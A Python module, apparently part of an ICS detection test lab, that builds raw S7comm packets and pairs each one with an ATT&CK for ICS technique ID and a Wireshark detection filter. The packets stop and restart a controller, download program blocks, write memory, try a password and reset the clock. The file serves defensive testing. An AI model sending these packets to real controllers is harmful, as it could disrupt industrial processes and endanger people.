"""Attacks by S7comm: jobs and user data over COTP (RFC 1006, RFC 905)."""

from __future__ import annotations

import struct
from collections.abc import Callable

from tests.lab.attacks import wire
from tests.lab.attacks.attack import Aim, Attack

_FROM = " && ip.src == {source} && ip.dst == {target}"
_USER = "s7comm.header.rosctr == 7 && s7comm.param.userdata.funcgroup == "
_CONNECT = bytes.fromhex("0300001611e00000000100c1020100c2020102c0010a")
_JOB, _USERDATA = 1, 7


def _s7(kind: int, number: int, parameter: bytes, data: bytes = b"") -> bytes:
    sizes = struct.pack(">HH", len(parameter), len(data))
    body = b"\x32" + bytes([kind]) + bytes(2) + number.to_bytes(2) + sizes + parameter + data
    return b"\x03\0" + (7 + len(body)).to_bytes(2) + b"\x02\xf0\x80" + body


_SETUP = _s7(_JOB, 0, b"\xf0\0\0\1\0\1\1\xe0")


def _does(*messages: bytes) -> Callable[[Aim], None]:
    """A session with these messages."""
    return lambda aim: wire.tcp(aim, _CONNECT, _SETUP, *messages)


def _write(aim: Aim) -> None:
    """A word of the target's block, far above where set points are written."""
    place = (aim.number("start") + 200) * 8
    item = b"\x12\x0a\x10\x02\0\x02" + aim.number("db").to_bytes(2) + b"\x84" + place.to_bytes(3)
    message = _s7(_JOB, 0x5347, b"\x05\x01" + item, b"\0\x04\0\x10\x7f\xff")
    wire.tcp(aim, _CONNECT, _SETUP, message)


_BLOCKS = _s7(_USERDATA, 1, b"\0\1\x12\4\x11\x43\1\0", b"\x0a\0\0\0")
_DIAGNOSTICS = _s7(_USERDATA, 2, b"\0\1\x12\4\x11\x44\1\0", b"\xff\x09\0\4\0\xa0\0\0")
_UPLOAD = _s7(_JOB, 3, b"\x1d\0\0\0\0\0\0\0\x09_0A00001A")
_DOWNLOAD = _s7(_JOB, 4, b"\x1a\0\1\0\0\0\0\0\x09_0800001P\x0d1000100000100")
_STOP = _s7(_JOB, 5, b"\x29\0\0\0\0\0\x09P_PROGRAM")
_START = _s7(_JOB, 6, b"\x28\0\0\0\0\0\0\xfd\0\0\x09P_PROGRAM")
_PASSWORD = _s7(_USERDATA, 7, b"\0\1\x12\4\x11\x45\1\0", b"\xff\x09\0\x08\x55\x25\x77\x45\1\2\3\4")
_CLOCK = _s7(
    _USERDATA,
    8,
    b"\0\1\x12\4\x11\x47\2\0",
    b"\xff\x09\0\x0a\0\x19\x20\x01\x01\x00\x00\x00\x00\x05",
)
ATTACKS = (
    Attack(
        "s7 blocks listed",
        "Asks which blocks there are",
        "s7comm",
        ("T0888",),
        "new operation",
        _USER + "3" + _FROM,
        _does(_BLOCKS),
    ),
    Attack(
        "s7 diagnostics read",
        "Reads the diagnostic buffer",
        "s7comm",
        ("T0868",),
        "new operation",
        _USER + "4 && frame contains 00:a0:00:00" + _FROM,
        _does(_DIAGNOSTICS),
    ),
    Attack(
        "s7 program uploaded",
        "Starts the upload of a block",
        "s7comm",
        ("T0845",),
        "engineering operation",
        "s7comm.param.func == 0x1d" + _FROM,
        _does(_UPLOAD),
    ),
    Attack(
        "s7 program downloaded",
        "Requests the download of a block",
        "s7comm",
        ("T0843", "T0889"),
        "engineering operation",
        "s7comm.param.func == 0x1a" + _FROM,
        _does(_DOWNLOAD),
    ),
    Attack(
        "s7 controller stopped",
        "Stops the controller, then starts it",
        "s7comm",
        ("T0858",),
        "engineering operation",
        "(s7comm.param.func == 0x29 || s7comm.param.func == 0x28)" + _FROM,
        _does(_STOP, _START),
    ),
    Attack(
        "s7 word written",
        "Writes where nobody writes",
        "s7comm",
        ("T0836",),
        "new operation",
        "s7comm.param.func == 0x05 && frame contains 7f:ff" + _FROM,
        _write,
    ),
    Attack(
        "s7 password tried",
        "Tries a session password",
        "s7comm",
        ("T0859",),
        "new operation",
        _USER + "5" + _FROM,
        _does(_PASSWORD),
    ),
    Attack(
        "s7 clock set",
        "Sets the controller's clock back",
        "s7comm",
        ("T0872",),
        "engineering operation",
        _USER + "7" + _FROM,
        _does(_CLOCK),
    ),
)
